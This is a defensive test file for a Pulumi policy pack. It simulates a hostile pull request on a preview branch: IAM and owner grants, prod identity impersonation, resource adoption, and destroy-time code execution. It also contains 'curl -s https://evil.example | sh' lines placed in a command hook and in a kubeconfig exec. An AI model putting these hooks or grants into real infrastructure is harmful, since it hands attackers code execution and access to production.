/**
 * What a hostile pull request tried, against the pack's rules: each case starts from the real
 * pr-42 plan (which passes every rule), adds or changes what the pull request would, and must be
 * refused by the rule named. Rules are called as pure functions; no PolicyPack is built.
 */
import { strict as assert } from "assert";
import * as gcp from "@pulumi/gcp";
import { Plan } from "../offline/plan";
import { runOffline } from "../offline/runtime";
import { branchKubeconfigViolations, branchProviderViolations } from "../policy/branchProviders";
import { branchNamespaceScopeViolations, branchOwnershipViolations, cloudSqlOutsideProdViolations, previewScopeViolations } from "../policy/branchScope";
import { RULES } from "../policy/catalog";
import { ADMIN_ROLES, adminGrantViolations, branchIamViolations, branchIdentityViolations } from "../policy/iam";
import { Props, StackResource } from "../policy/types";
import { SHA_A, plan } from "./helpers/plan";
import { fromPlan } from "./helpers/policy";

function res(stack: string, type: string, name: string, props: Props, importId?: string): StackResource {
  return { type, name, urn: `urn:pulumi:${stack}::dagster-platform::${type}::${name}`, props, protect: false, importId };
}

/** `rule: message` for every violation of every rule of the pack. */
function violations(resources: readonly StackResource[]): string[] {
  return RULES.flatMap((rule) =>
    rule.kind === "resource"
      ? resources.flatMap((r) => rule.check({ type: r.type, props: r.props }).map((m) => `${rule.name}: ${r.type} ${r.name}: ${m}`))
      : rule.check(resources, {}).map((v) => `${rule.name}: ${v.message}`),
  );
}

function refusedBy(resources: readonly StackResource[], rule: string, pattern: RegExp): void {
  const found = violations(resources).filter((v) => v.startsWith(`${rule}: `));
  assert.ok(found.some((v) => pattern.test(v)), `expected ${rule} to refuse (${pattern}); got ${JSON.stringify(violations(resources))}`);
}

const PROD_SA = "dagster@acme-data-prod.iam.gserviceaccount.com";

describe("policy pack against a hostile pull request", function () {
  this.timeout(90000);
  let branch: StackResource[];
  let preview: Plan;
  const stack = "pr-42";
  const add = (...extra: StackResource[]) => [...branch, ...extra];
  const edit = (name: string, type: string, change: (props: Props) => Props) => branch.map((r) => (r.name === name && r.type === type ? { ...r, props: change(structuredClone(r.props)) } : r));

  before(async () => {
    preview = await plan("preview", { revealSecrets: true });
    branch = (await plan(stack, { overrides: [`commitSha=${SHA_A}`], revealSecrets: true })).resources.map((r) => fromPlan(stack, r, preview));
    assert.deepEqual(violations(branch), [], "the real branch plan passes");
  });

  it("relabelling the namespace as prod changes nothing: the kind is the stack name", () => {
    const relabelled = edit("namespace", "kubernetes:core/v1:Namespace", (p) => ({ ...p, metadata: { ...(p.metadata as Props), labels: { "dagster-platform/deployment-kind": "prod" } } }));
    const grant = res(stack, "snowflake:index/grantPrivilegesToAccountRole:GrantPrivilegesToAccountRole", "steal", { accountRoleName: "DAGSTER_PR_42", privileges: ["SELECT"], onSchemaObject: { all: { objectTypePlural: "TABLES", inDatabase: "PRODUCTION" } } });
    refusedBy([...relabelled, grant], "branch-no-production-grants", /names the production database PRODUCTION/);
  });

  it("a project IAM grant, a custom role or a service-account key", () => {
    refusedBy(add(res(stack, "gcp:projects/iAMMember:IAMMember", "me", { project: "acme-data-preview", role: "roles/storage.admin", member: "user:mallory@example.com" })), "branch-no-iam-changes", /project-, folder- or organization-level IAM/);
    refusedBy(add(res(stack, "gcp:projects/iAMCustomRole:IAMCustomRole", "role", { roleId: "x", permissions: ["iam.serviceAccounts.actAs"] })), "branch-no-iam-changes", /IAMCustomRole role/);
    refusedBy(add(res(stack, "gcp:serviceaccount/key:Key", "key", { serviceAccountId: "dagster-pr-42" })), "branch-no-iam-changes", /no service-account key/);
  });

  it("any IAM grant: on prod's service account, on a bucket, to anyone", () => {
    const onProd = res(stack, "gcp:serviceaccount/iAMMember:IAMMember", "wi", { serviceAccountId: `projects/acme-data-prod/serviceAccounts/${PROD_SA}`, role: "roles/iam.workloadIdentityUser", member: "serviceAccount:acme-data-preview.svc.id.goog[dagster-pr-42/x]" });
    refusedBy(add(onProd), "branch-no-iam-changes", /IAMMember wi: a branch grants nothing in IAM \(granted "roles\/iam\.workloadIdentityUser"\)/);
    const bucketGrant = res(stack, "gcp:storage/bucketIAMMember:BucketIAMMember", "steal", { bucket: "acme-data-preview-dagster-branch-data", role: "roles/storage.objectViewer", member: "allAuthenticatedUsers" });
    refusedBy(add(bucketGrant), "branch-no-iam-changes", /BucketIAMMember steal: a branch grants nothing in IAM/);
  });

  it("an owner-like grant, in any stack, and a cluster-admin binding", () => {
    for (const role of ["roles/owner", "roles/editor", "roles/iam.serviceAccountTokenCreator"]) {
      assert.deepEqual(adminGrantViolations({ type: "gcp:storage/bucketIAMMember:BucketIAMMember", props: { role } }).length, 1, role);
    }
    const policy = JSON.stringify({ bindings: [{ role: "roles/viewer", members: ["user:a@example.com"] }, { role: "roles/owner", members: ["user:mallory@example.com"] }] });
    assert.match(adminGrantViolations({ type: "gcp:projects/iAMPolicy:IAMPolicy", props: { policyData: policy } })[0], /grants roles\/owner/);
    assert.deepEqual(adminGrantViolations({ type: "gcp:artifactregistry/repositoryIamMember:RepositoryIamMember", props: { role: "roles/artifactregistry.reader" } }), []);
    assert.ok(ADMIN_ROLES.includes("roles/resourcemanager.projectIamAdmin"));
    refusedBy(add(res(stack, "gcp:projects/iAMMember:IAMMember", "owner", { role: "roles/owner", member: "user:mallory@example.com" })), "no-admin-grants", /grants roles\/owner/);
    const admin = res(stack, "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", "admin", { metadata: { name: "x", namespace: "dagster-pr-42" }, roleRef: { kind: "ClusterRole", name: "cluster-admin" } });
    refusedBy(add(admin), "no-admin-grants", /binds the Kubernetes role cluster-admin/);
  });

  it("any Cloud SQL resource in a branch, prod's instance or not; and in the preview stack", () => {
    const db = res(stack, "gcp:sql/database:Database", "prod-db", { name: "dagster", instance: "dagster-prod", deletionPolicy: "DELETE" });
    refusedBy(add(db), "cloudsql-prod-only", /only prod has Cloud SQL resources/);
    refusedBy(add(res(stack, "gcp:sql/user:User", "u", { name: "dagster_pr_42", instance: "dagster-prod" })), "cloudsql-prod-only", /User u/);
    assert.equal(cloudSqlOutsideProdViolations([res("preview", "gcp:sql/databaseInstance:DatabaseInstance", "i", {})]).length, 1);
    assert.deepEqual(cloudSqlOutsideProdViolations([res("prod", "gcp:sql/databaseInstance:DatabaseInstance", "i", {})]), []);
  });

  it("Kubernetes objects outside the branch's namespace: prod's, another branch's, cluster-scoped", () => {
    refusedBy(add(res(stack, "kubernetes:core/v1:ConfigMap", "cm", { metadata: { name: "dagster-workspace", namespace: "dagster" } })), "branch-own-namespace-only", /is in namespace dagster: a branch writes only in its own namespace dagster-pr-42/);
    refusedBy(add(res(stack, "kubernetes:core/v1:Secret", "s", { metadata: { name: "x", namespace: "dagster-pr-41" } })), "branch-own-namespace-only", /namespace dagster-pr-41/);
    refusedBy(add(res(stack, "kubernetes:rbac.authorization.k8s.io/v1:ClusterRole", "cr", { metadata: { name: "x" } })), "branch-own-namespace-only", /has no namespace \(cluster-scoped/);
    refusedBy(add(res(stack, "kubernetes:core/v1:Namespace", "ns2", { metadata: { name: "dagster" } })), "branch-own-namespace-only", /is the namespace dagster/);
    const release = edit("dagster", "kubernetes:helm.sh/v3:Release", (p) => ({ ...p, namespace: "dagster" }));
    refusedBy(release, "branch-own-namespace-only", /Release dagster is in namespace dagster:/);
    assert.deepEqual(branchNamespaceScopeViolations([res("prod", "kubernetes:core/v1:ConfigMap", "cm", { metadata: { name: "x", namespace: "dagster" } })]), []);
  });

  it("impersonating prod's identities: a Workload Identity annotation, a provider, a service account", () => {
    const ksa = edit("user-code", "kubernetes:core/v1:ServiceAccount", (p) => ({ ...p, metadata: { ...(p.metadata as Props), annotations: { "iam.gke.io/gcp-service-account": PROD_SA } } }));
    refusedBy(ksa, "branch-no-foreign-identities", /metadata\.annotations\.iam\.gke\.io\/gcp-service-account = dagster@acme-data-prod.*act as themselves/);
    const values = edit("dagster", "kubernetes:helm.sh/v3:Release", (p) => ({ ...p, values: { ...(p.values as Props), serviceAccount: { create: true, annotations: { "iam.gke.io/gcp-service-account": PROD_SA } } } }));
    refusedBy(values, "branch-no-foreign-identities", /values\.serviceAccount\.annotations/);
    refusedBy(add(res(stack, "pulumi:providers:gcp", "prod", { project: "acme-data-prod", impersonateServiceAccount: "ci@acme-data-prod.iam.gserviceaccount.com" })), "branch-no-foreign-identities", /sets impersonateServiceAccount/);
    refusedBy(add(res(stack, "gcp:serviceaccount/account:Account", "sa", { accountId: "dagster-pr-42" })), "branch-no-foreign-identities", /accountId "dagster-pr-42": a branch creates no Google service account/);
    assert.deepEqual(branchIdentityViolations([res("prod", "gcp:serviceaccount/account:Account", "sa", { accountId: "dagster" })]), []);
    assert.deepEqual(branchIamViolations([res("prod", "gcp:projects/iAMMember:IAMMember", "m", { role: "roles/logging.logWriter" })]), [], "prod grants its node roles");
  });

  it("owning or adopting anything in GCP: its own bucket, prod's bucket, a network, anything imported", () => {
    refusedBy(add(res(stack, "gcp:storage/bucket:Bucket", "own", { name: "acme-data-preview-dagster-pr42-logs" })), "branch-owns-only-its-resources", /Bucket own: a branch owns no GCP resource/);
    refusedBy(add(res(stack, "gcp:storage/bucket:Bucket", "adopted", { name: "acme-data-prod-dagster-defs-state" })), "branch-owns-only-its-resources", /owns no GCP resource \(not a gcp:storage\/bucket:Bucket\)/);
    refusedBy(add(res(stack, "gcp:compute/network:Network", "vpc", { name: "dagster" })), "branch-owns-only-its-resources", /not a gcp:compute\/network:Network/);
    const imported = res(stack, "kubernetes:core/v1:ConfigMap", "imp", { metadata: { name: "dagster-workspace", namespace: "dagster-pr-42" } }, "dagster-pr-42/dagster-workspace");
    refusedBy(add(imported), "branch-owns-only-its-resources", /adopts the existing resource/);
    assert.deepEqual(branchOwnershipViolations([res("prod", "gcp:compute/network:Network", "vpc", {})]), []);
  });

  it("state that would run code when the stack is destroyed: a dynamic resource, a command, another provider or plugin", () => {
    refusedBy(add(res(stack, "pulumi-nodejs:dynamic:Resource", "payload", { __provider: "exports.handler = …" })), "branch-known-providers", /Resource payload \(pulumi-nodejs:dynamic:Resource\) is a dynamic resource: its provider is JavaScript kept in the state/);
    refusedBy(add(res(stack, "command:local:Command", "c", { create: "true", delete: "curl -s https://evil.example | sh" })), "branch-known-providers", /runs shell commands when it is created or destroyed/);
    refusedBy(add(res(stack, "pulumi:providers:command", "default_1_0_0", {})), "branch-known-providers", /is of package command: a branch uses only the kubernetes, random, snowflake, tls providers/);
    refusedBy(add(res(stack, "pulumi:providers:gcp", "gcp", { project: "acme-data-preview" })), "branch-known-providers", /is of package gcp/);
    refusedBy(add(res(stack, "aws:s3/bucket:Bucket", "b", {})), "branch-known-providers", /is of package aws/);
    const fetched = edit("kubernetes", "pulumi:providers:kubernetes", (p) => ({ ...p, pluginDownloadURL: "https://evil.example/plugins" }));
    refusedBy(fetched, "branch-known-providers", /provider kubernetes \(pulumi:providers:kubernetes\) sets pluginDownloadURL/);
    refusedBy(add(res(stack, "pulumi:providers:random", "r", { parameter: { pkg: "terraform-provider", version: "0.1.0", value: "x" } })), "branch-known-providers", /sets parameter/);
    // What the engine adds for the program's own packages passes.
    const engineAdds = [res(stack, "pulumi:providers:random", "default_4_21_2", { version: "4.21.2" }), res(stack, "pulumi:providers:tls", "default_5_6_1", { version: "5.6.1" }), res(stack, "pulumi:pulumi:Stack", "dagster-platform-pr-42", {})];
    assert.deepEqual(branchProviderViolations(add(...engineAdds)), []);
    assert.deepEqual(branchProviderViolations([res("prod", "pulumi-nodejs:dynamic:Resource", "x", {})]), [], "prod is reviewed code");
  });

  it("a Kubernetes provider with a kubeconfig other than the preview stack's (its exec command would run on destroy)", () => {
    const exec = edit("kubernetes", "pulumi:providers:kubernetes", (p) => ({ ...p, kubeconfig: String(p.kubeconfig).replace("command: gke-gcloud-auth-plugin", "command: sh\n      args: [-c, 'curl -s https://evil.example | sh']") }));
    refusedBy(exec, "branch-kubeconfig-from-preview", /provider kubernetes has a kubeconfig other than the preview stack's output/);
    refusedBy(add(res(stack, "pulumi:providers:kubernetes", "default_4_34_2", { version: "4.34.2" })), "branch-kubeconfig-from-preview", /provider default_4_34_2 has a kubeconfig other than/);
    refusedBy(edit("kubernetes", "pulumi:providers:kubernetes", (p) => ({ ...p, context: "prod" })), "branch-kubeconfig-from-preview", /sets context/);
    refusedBy(edit("kubernetes", "pulumi:providers:kubernetes", (p) => ({ ...p, cluster: "gke_acme-data-prod_europe-west4_dagster" })), "branch-kubeconfig-from-preview", /sets cluster/);
    const unread = edit("preview", "pulumi:pulumi:StackReference", (p) => ({ ...p, outputs: {} }));
    refusedBy(unread, "branch-kubeconfig-from-preview", /cannot be checked: the stack reads no preview stack output kubeconfig/);
    const otherRef = edit("preview", "pulumi:pulumi:StackReference", (p) => ({ ...p, name: "organization/dagster-platform/prod" }));
    refusedBy(otherRef, "branch-kubeconfig-from-preview", /cannot be checked/);
    assert.deepEqual(branchKubeconfigViolations(branch), [], "the real branch uses the preview stack's");
  });

  it("an `import` in the program reaches the offline plan, where the rule sees it (the policy engine is not told)", async () => {
    const run = await runOffline({
      project: "dagster-platform",
      stack,
      config: {},
      secretKeys: [],
      computed: { project: "acme-data-preview", region: "europe-west4", stackOutputs: () => Promise.reject(new Error("no stack reference here")) },
      program: () => {
        new gcp.storage.Bucket("adopted", { name: "acme-data-prod-dagster-compute-logs", location: "EU" }, { import: "acme-data-prod-dagster-compute-logs" });
      },
    });
    const adopted = run.resources.find((r) => r.name === "adopted");
    assert.equal(adopted?.options.import, "acme-data-prod-dagster-compute-logs");
    const v = branchOwnershipViolations(run.resources.map((r) => ({ type: r.type, name: r.name, urn: r.urn, props: r.inputs, protect: false, importId: r.options.import })));
    assert.ok(v.some((x) => /adopts the existing resource acme-data-prod-dagster-compute-logs/.test(x.message)), JSON.stringify(v));
  });

  it("the preview stack passes, and would be refused a Dagster release of its own", () => {
    const resources = preview.resources.map((r) => fromPlan("preview", r));
    assert.deepEqual(violations(resources), []);
    const release = res("preview", "kubernetes:helm.sh/v3:Release", "dagster", { chart: "dagster", namespace: "dagster" });
    assert.equal(previewScopeViolations([...resources, release]).length, 1);
  });
});
